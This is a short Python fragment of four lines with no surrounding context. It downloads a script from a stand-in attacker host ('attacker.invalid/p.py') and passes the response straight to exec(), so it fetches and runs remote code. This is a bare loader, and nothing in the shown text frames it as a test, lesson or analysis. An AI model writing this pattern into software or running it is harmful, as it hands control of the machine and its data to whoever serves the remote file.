from urllib.request import urlopen

URL = "https://attacker.invalid/p.py"
exec(urlopen(URL).read())
